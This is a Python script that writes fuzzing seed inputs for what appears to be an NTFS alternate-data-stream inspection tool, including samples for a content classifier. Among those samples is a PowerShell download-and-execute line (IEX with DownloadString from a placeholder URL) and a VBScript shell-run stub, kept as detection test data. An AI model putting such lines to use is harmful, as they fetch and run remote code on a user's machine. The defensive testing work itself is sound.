#!/usr/bin/env python3
"""Writes the seed corpus of the fuzz targets (fuzz/corpus/<target>/): small inputs that reach every
branch the checks care about. Run from anywhere; the files it writes are kept in the repository."""
import os
import struct

HERE = os.path.dirname(os.path.abspath(__file__))


def utf16(text):
    return text.encode('utf-16-le', 'surrogatepass')


def record(stream_id, name, data, size=None, name_size=None):
    name_bytes = utf16(name)
    return (struct.pack('<IIqI', stream_id, 0, len(data) if size is None else size,
                        len(name_bytes) if name_size is None else name_size) + name_bytes + data)


def write(target, name, data):
    folder = os.path.join(HERE, 'corpus', target)
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, name), 'wb') as f:
        f.write(data)


security = record(3, '', b'\x01\x00\x04\x80' + b'\x00' * 28)
main = record(1, '', b'main data')
notes = record(4, ':notes:$DATA', b'hello notes!')
summary = record(4, ':\x05SummaryInformation:$DATA', b'\xfe\xff' * 8)
empty = record(4, ':empty:$DATA', b'')
longest = record(4, ':' + 'n' * 255 + ':$DATA', b'L')
too_long = record(4, ':' + 'm' * 300 + ':$DATA', b'M')
write('backup_walk', 'windows_file', b'\x00' + security + main + notes + empty)
write('backup_walk', 'split_reads', b'\x07' + main + notes + summary)
write('backup_walk', 'byte_by_byte', b'\x01' + notes + longest)
write('backup_walk', 'long_names', b'\x00' + too_long + longest + notes)
write('backup_walk', 'cut_in_header', b'\x00' + notes + notes[:11])
write('backup_walk', 'cut_in_name', b'\x14' + notes + record(4, ':cut:$DATA', b'x')[:26])
write('backup_walk', 'data_past_end', b'\x00' + record(4, ':big:$DATA', b'abc', size=1 << 40))
write('backup_walk', 'negative_size', b'\x00' + record(4, ':neg:$DATA', b'', size=-5) + notes)
write('backup_walk', 'huge_name_size', b'\x00' + record(4, '', b'', name_size=0xFFFFFFF0) + b'rest')

for name, text in [('plain', 'notes'), ('enumerated', ':notes:$DATA'), ('main', '::$DATA'),
                   ('control', '\x05SummaryInformation'), ('zone', 'Zone.Identifier'),
                   ('reserved_chars', 'a?*"<>|b'), ('trailing', 'trailing. '), ('device', 'CON'),
                   ('device_ext', 'lpt1.txt'), ('longest', 'x' * 255), ('leading_space', ' lead'),
                   ('surrogate', '\ud800half'), ('colons', 'name:with:colons'), ('blank', '   '),
                   ('backup_form', '\x05SummaryInformation:$DATA')]:
    write('stream_names', name, utf16(text))

for name, names in [('zone', ['Zone.Identifier', 'Zone.Identifier', 'Zone(1).Identifier']),
                    ('folder_named_so', ['notes', 'notes', '#notes(1)']),
                    ('dots', ['a.b.c', 'a.b.c', 'a.b(1).c']),
                    ('only_folder', ['x', '#x']),
                    ('free', ['free', 'other']),
                    ('longest', ['y' * 255, 'y' * 255])]:
    write('unique_name', name, utf16('\0'.join(names)))

for name, count, flags, data in [('text', 30, 0, b'hello'), ('exe', 30, 0, b'MZ\x90\x00\x03'),
                                 ('longer_than_asked', 5, 0, b'abcdefghij'),
                                 ('cap', 2000, 0, bytes(range(256)) * 8),
                                 ('negative', -5, 0, b'abc'), ('empty', 30, 0, b''),
                                 ('huge', 30, 1, b'start of a 5 GiB stream'),
                                 ('zeros', 30, 0, b'\x00\x00\x00'), ('crlf', 30, 0, b'a\r\nb\tc')]:
    write('preview', name, struct.pack('<hB', count, flags) + data)

# The classifier: flags (1 folder, 2 a 5 GiB stream, 4 unreadable), the name's length, the name, the
# bytes; the programs and archives are the report tests' samples.
SAMPLES = os.path.join(HERE, '..', 'tests', 'report', 'fixtures')


def sample(name):
    with open(os.path.join(SAMPLES, name), 'rb') as f:
        return f.read()


def classified(flags, name, data):
    return struct.pack('<BB', flags, len(name)) + utf16(name) + data


MARK = b'[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=https://example.com/a.exe\r\n'
for name, flags, stream, data in [
        ('mark', 0, 'Zone.Identifier', MARK),
        ('mark_utf16', 0, 'Zone.Identifier', b'\xff\xfe' + MARK.decode().encode('utf-16-le')),
        ('mark_holding_exe', 0, 'Zone.Identifier', sample('tiny-x86.exe')),
        ('exe', 0, 'payload', sample('tiny-x86.exe')), ('dll', 1, 'x', sample('tiny-x64.dll')),
        ('driver', 0, 'x', sample('tiny-x64.sys')), ('docx', 0, 'doc', sample('sample.docx')),
        ('docm', 0, 'doc', sample('sample.docm')), ('jar', 0, 'j', sample('sample.jar')),
        ('odt', 0, 'o', sample('sample.odt')), ('zip', 0, 'z', sample('sample.zip')),
        ('huge_wof', 2, 'WofCompressedData', bytes(range(256)) * 4),
        ('unreadable', 4, 'favicon', b''),
        ('powershell', 0, 's', b'IEX (New-Object Net.WebClient).DownloadString("http://x")\r\n'),
        ('batch', 1, 's', b'@echo off\r\nset a=1\r\ncall :x\r\n'),
        ('vbscript', 0, 's', b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'),
        ('hta', 0, 's', b'<html><hta:application id="a"><script>x()</script></html>'),
        ('shebang', 0, 's', b'#!/bin/sh\necho hi\n'),
        ('lnk', 0, 'l', b'\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46' + bytes(60)),
        ('property_set', 0, '\x05SummaryInformation', b'\xfe\xff\x00\x00\x0a\x00\x02\x00' + bytes(16) + b'\x01\x00\x00\x00' + bytes(20)),
        ('property_store', 0, 'ms-properties', b'\x40\x00\x00\x001SPS' + bytes(56)),
        ('afp', 0, 'AFP_AfpInfo', b'AFP\x00\x00\x00\x01\x00' + bytes(52)),
        ('lookalike', 0, 'Zone.ldentifier', MARK), ('blank_name', 0, '\u200b', b'x'),
        ('system_name', 0, '$DATA', b'x'), ('utf16_text', 0, 't', 'notes in UTF-16'.encode('utf-16-le')),
        ('base64', 0, 'b', b'data=' + b'QUJDRGVmZ2hpams0NTY3' * 20),
        ('ole', 0, 'o', b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + bytes(80)),
        ('embedded', 0, 'e', b'junk' * 20 + sample('tiny-x86.exe'))]:
    write('classifier', name, classified(flags, stream, data))
